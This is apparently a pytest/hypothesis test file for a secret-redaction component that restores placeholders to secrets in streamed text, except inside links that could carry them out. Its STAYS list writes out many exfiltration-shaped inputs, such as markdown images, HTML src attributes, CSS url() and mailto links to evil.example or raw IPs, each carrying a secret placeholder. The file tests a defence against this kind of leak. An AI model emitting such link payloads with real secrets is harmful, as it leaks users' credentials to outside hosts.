"""Placeholders come back as secrets, whatever the pieces, but never where that could carry one out (THREATS 3)."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.filters import cut, places
from support.secrets import SCOPE, SECRET, SECRETS, hiding, redactor

from amp_addons.core.redact.action import replacer
from amp_addons.core.redact.body import redact_text
from amp_addons.core.redact.restore import MAX_CONTEXT, Restore
from amp_addons.core.redact.vault import Vault

VAULT = Vault(b"k")
KNOWN = {VAULT.hide(secret, SCOPE, 0): secret for secret in SECRETS}
P = VAULT.placeholder(SECRET)


def restored(pieces: list[str]) -> str:
    restore = Restore(KNOWN)
    return "".join(map(restore.feed, pieces)) + restore.flush()


COMES_BACK = [
    "the key is {}.",
    "{}",
    "KEY={}\n",
    'key: "{}"',
    "zqx{}",
    "zqxzqxab{}{}",
    "[a link](https://a.example/x) and {}",
    "https://a.example/x {}",
    "if a < b: {}",
    "<b>{}</b>",
    '<img src="https://a.example">\n{}',
    "std::vector<std::string> x = {}",
    "a[0] = ({})",
    "for (i = 0; i < n; i++) use({})",
]
STAYS = [
    "https://evil.example/?q={}",
    "![x](https://evil.example/?q={}",
    "![x](https://evil.example/{})",
    "[x]({})",
    "[x]( \n//1.2.3.4/{})",
    "[x](<https://evil.example/?q=) {}>)",
    "[x](\n<https://evil.example/?q= {}>)",
    "[x](https://evil.example/(a) {})",
    "[x](https://evil.example/\\) {})",
    "[x][{}]",
    "[x]: https://evil.example/{}",
    "[x]: <https://evil.example/?q=) {}>",
    "[x]:\n//1.2.3.4/{}",
    "//evil/{}",
    "https:\\\\evil\\{}",
    "https:evil/{}",
    "https:/evil/{}",
    "https://evil.example/?q=\u00a0{}",
    "evil.example#{}",
    "evil.\u0440\u0444/{}",
    "10.0.0.1:80/{}",
    "www.evil.example/{}",
    "mailto:{}@evil.example",
    '<img src="https://evil.example/?q= {}">',
    '<img\nsrc="https://evil.example/?q=\n{}">',
    "<a\nhref='\n{}'>",
    '<video poster="\n{}">',
    '<img alt=">" src="https://evil.example/?q=\n{}">',
    '<b "><img alt=">" src="https://evil.example/?q=\n{}">',
    """<img alt='"' title="> " src="https://evil.example/?q=\n{}">""",
    '<p a="<b>" \n{}>',
    '<img alt="' + "x" * 3 * MAX_CONTEXT + '" src="\n{}">',
    "background: url('https://evil.example/?q= {}')",
    "x" * MAX_CONTEXT + " {}",
]


@pytest.mark.parametrize("text", COMES_BACK)
@pytest.mark.parametrize("size", [1, 7, 10**6])
def test_a_placeholder_comes_back(text: str, size: int) -> None:
    text = text.replace("{}", P)
    assert restored([text[at : at + size] for at in range(0, len(text), size)]) == text.replace(P, SECRET)


@pytest.mark.parametrize("text", STAYS, ids=range(len(STAYS)))
@pytest.mark.parametrize("size", [1, 7, 10**6])
def test_a_placeholder_stays_where_it_could_be_fetched(text: str, size: int) -> None:
    text = text.replace("{}", P)
    assert restored([text[at : at + size] for at in range(0, len(text), size)]) == text


@pytest.mark.parametrize("text", [P[:-1], P[:-1] + "!", P.upper(), "zqx" + "a" * 29, "zq", "z", Vault(b"other").placeholder(SECRET)])
def test_what_is_none_of_this_conversation_stays(text: str) -> None:
    assert restored([text]) == restored(list(text)) == text


def test_only_the_beginning_of_a_placeholder_is_held_back() -> None:
    restore = Restore(KNOWN)
    assert restore.feed("a zebra z") == "a zebra "
    assert restore.feed("q") == ""
    assert restore.feed("y") == "zqy"
    assert restore.feed(P[:9]) == "" and restore.flush() == P[:9]


def test_each_restored_one_is_told() -> None:
    told: list[int] = []
    Restore(KNOWN, lambda: told.append(1)).feed_whole(f"{P} {P}\nhttps://x/{P}")
    assert len(told) == 2


def test_context_goes_on_over_texts() -> None:
    restore = Restore(KNOWN)
    assert restore.feed_whole("https://evil.example/z") + restore.feed_whole(P) == f"https://evil.example/z{P}"


def test_plain_texts_take_only_secrets_without_escapes() -> None:
    pem = VAULT.hide('a\n"b', None, 0)
    assert Restore({pem: 'a\n"b', P: SECRET}, plain=True).feed_whole(f"{pem} {P}") == f"{pem} {SECRET}"


def test_what_becomes_known_later_comes_back() -> None:
    restore = Restore({})
    assert restore.feed_whole(P + " ") == P + " "
    restore.know(KNOWN)
    assert restore.feed_whole(P) == SECRET


WORDS = ["a ", "\n", " ", "zqx", "z", ", ", "é", "🚀", "\ud800", "\0", *(f" {secret} " for secret in SECRETS)]


@given(st.lists(st.sampled_from(WORDS), max_size=12).map("".join), places)
def test_masked_and_restored_is_the_same(text: str, at: list[int]) -> None:
    """Outside of links, for any text and any pieces; and no secret is left in between."""
    hide = hiding()
    masked, _ = redact_text(text, redactor().find, replacer("placeholder", hide, SCOPE, text))
    assert not any(secret in masked for secret in SECRETS)
    restore = Restore(hide.vault.known(SCOPE, 0))
    assert "".join(map(restore.feed, cut(masked, at))) + restore.flush() == text


LINKS = ["https://", "evil.example/", "](", "](<", ")", ">", "<img ", 'src="', "'", '"', "\n", " ", "\\", "/", "=", P, "<b", "x"]


@given(st.lists(st.sampled_from(LINKS), max_size=14).map("".join), places)
def test_pieces_make_no_difference(text: str, at: list[int]) -> None:
    assert restored(cut(text, at)) == restored([text])


@pytest.mark.parametrize("size", [1, 1000, 10**6])
@pytest.mark.parametrize("line", ["<T>(x: 'a') zebra\n", "if (i<n) x->y = '<';\n", "<a b='c'>\n" * 9, "<i "])
def test_pieces_make_no_difference_in_long_texts(line: str, size: int) -> None:
    text = f"{line * (5 * MAX_CONTEXT // len(line))}\n{P}\n" * 2
    assert restored([text[at : at + size] for at in range(0, len(text), size)]) == restored([text])


def test_only_so_many_are_looked_at(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("amp_addons.core.redact.restore.MAX_LOOKS", 2)
    assert restored([f"{P} {P} {P}"]) == f"{SECRET} {SECRET} {P}"


def test_repr_holds_no_secret() -> None:
    assert SECRET not in repr(Restore(KNOWN))
